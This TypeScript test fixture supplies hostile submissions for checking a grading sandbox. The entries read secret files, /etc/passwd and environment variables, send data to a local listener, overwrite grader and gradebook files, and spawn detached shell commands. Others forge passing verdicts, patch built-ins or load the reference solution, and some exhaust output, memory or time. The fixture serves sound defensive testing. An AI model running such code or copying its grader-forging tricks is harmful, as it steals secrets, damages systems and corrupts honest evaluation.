/**
 * Hostile submissions for exercise 01, one per attack the grading machinery must contain (issue 14). Each is the
 * text of a learner's sampler.ts; `P` holds the paths and port the test sets up, written into the source as a
 * real attacker would hard-code them. None implements the exercise: any point one earns is a forged point.
 */
export interface AttackPaths {
  /** A secret file outside the submission (stands in for ~/.ssh/id_ed25519). */
  secretFile: string;
  /** The project's reference solution. */
  solution: string;
  /** A classmate's submission. */
  classmate: string;
  /** A file of the grader's own source. */
  graderSource: string;
  /** Where the gradebook will be written. */
  gradebookJson: string;
  /** A file that must not come to exist. */
  marker: string;
  /** A TCP listener on loopback that must receive nothing. */
  port: number;
}

const stubs = `
export function bornProbabilities(re: ArrayLike<number>): number[] { return Array.from(re, () => 0); }
export function createSampler(): () => number { return () => 0; }
export function sampleCounts(): Record<string, number> { return {}; }
`;

/** Runs `body` at load time and again inside every exported function, swallowing nothing: errors are reported. */
const attempt = (body: string) => `
const attack = () => {
${body}
};
try { attack(); } catch (e) { console.error('attack failed at load:', String(e)); }
export function bornProbabilities(re: ArrayLike<number>): number[] { attack(); return Array.from(re, () => 0); }
export function createSampler(): () => number { attack(); return () => 0; }
export function sampleCounts(): Record<string, number> { attack(); return {}; }
`;

const fs = `const fs = (globalThis as any).process.getBuiltinModule('node:fs');`;

export function attacks(P: AttackPaths): Record<string, string> {
  const q = JSON.stringify;
  return {
    // Read secrets and put them where the instructor will see them: an error message lands in the gradebook.
    'read-secrets': attempt(`${fs}
  const found = [${q(P.secretFile)}, ${q(P.solution)}, ${q(P.classmate)}, '/etc/passwd'].map((p) => { try { return fs.readFileSync(p, 'utf8'); } catch (e) { return 'denied'; } });
  throw new Error('LEAK ' + found.join(' | '));`),
    // Environment variables (tokens) into the gradebook.
    'read-env': attempt(`throw new Error('LEAK ' + JSON.stringify((globalThis as any).process.env));`),
    // Send data to a local listener by TCP and by HTTP.
    'network': attempt(`const net = (globalThis as any).process.getBuiltinModule('node:net');
  const s = net.connect(${P.port}, '127.0.0.1'); s.on('error', () => {}); s.write('LEAK tcp');
  fetch('http://127.0.0.1:${P.port}/LEAK').catch(() => {});`),
    // Write outside the submission: a new file, the grader's source, a classmate's file, the gradebook.
    'write-files': attempt(`${fs}
  for (const [p, text] of [[${q(P.marker)}, 'x'], [${q(P.graderSource)}, 'export const hacked = 1;'], [${q(P.classmate)}, 'export {}'], [${q(P.gradebookJson)}, '{}']]) { try { fs.writeFileSync(p, text); } catch {} }
  try { fs.rmSync(${q(P.classmate)}); } catch {}`),
    // Start other programs, including one meant to outlive the run.
    'spawn': attempt(`const cp = (globalThis as any).process.getBuiltinModule('node:child_process');
  try { cp.execSync('id > ' + ${q(P.marker)}); } catch {}
  try { cp.spawn('sh', ['-c', 'sleep 1000; touch ' + ${q(P.marker)}], { detached: true, stdio: 'ignore' }).unref(); } catch {}
  try { new ((globalThis as any).process.getBuiltinModule('node:worker_threads').Worker)('1', { eval: true }); } catch {}`),
    // Load the reference solution (by import, by require) and use it as its own.
    'import-solution': `
let real: any = null;
try { real = require(${q(P.solution.replace(/\.ts$/, ''))}); } catch {}
try { real ??= require('../../exercises/01-sampler/solution/sampler'); } catch {}
export const bornProbabilities = (re: any, im: any) => real ? real.bornProbabilities(re, im) : Array.from(re, () => 0);
export const createSampler = (p: any, r: any) => real ? real.createSampler(p, r) : () => 0;
export const sampleCounts = (a: any, b: any, c: any, d: any) => real ? real.sampleCounts(a, b, c, d) : {};
`,
    // Print what a verdict looks like and leave; patch the built-ins a grader might lean on.
    'forge-verdict': `
const out = (globalThis as any).process.stdout;
for (let id = 0; id < 50; id++) out.write(JSON.stringify({ id, ok: true, value: 1, rngCalls: [] }) + '\\n');
out.write(JSON.stringify({ id: '01-sampler', results: [], score: 13, max: 13 }) + '\\n');
Math.abs = () => 0; Array.prototype.push = function () { return 0; }; JSON.stringify = () => '{"pass":true}';
Object.defineProperty(Object.prototype, 'pass', { get: () => true, configurable: true });
${stubs}`,
    // Flood the output, then exhaust memory: the run must go on.
    'flood-output': attempt(`const o = (globalThis as any).process.stdout; const big = 'x'.repeat(1 << 20); for (let i = 0; i < 600; i++) o.write(big);`),
    'flood-log': attempt(`const big = 'y'.repeat(1 << 20); for (let i = 0; i < 600; i++) console.error(big);`),
    // Address space, as the OS counts it: 16 GiB asked for in 256 MiB pieces (filling them would only add CPU time).
    'eat-memory': attempt(`const keep: ArrayBuffer[] = []; for (let i = 0; i < 64; i++) keep.push(new ArrayBuffer(1 << 28)); (globalThis as any).keep = keep;`),
    // Wait forever without using the CPU.
    'sleep-forever': attempt(`Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0);`),
  };
}
